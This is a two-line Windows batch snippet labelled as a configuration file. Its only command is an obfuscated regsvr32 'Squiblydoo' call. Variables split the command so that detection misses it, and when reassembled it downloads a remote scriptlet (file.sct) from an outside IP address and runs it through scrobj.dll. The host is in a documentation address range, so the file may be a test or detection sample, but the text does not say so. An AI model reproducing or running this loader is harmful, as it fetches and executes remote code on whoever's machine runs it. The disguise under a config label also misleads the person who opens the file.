REM config 6064 v2
cmd /v:on /c "set sml0=regsvr32 /s /n /u&&set rem1= /i:http://198.51.100.23/file.sct scrob&&set rij2=j.dll&&!sml0!!rem1!!rij2!"
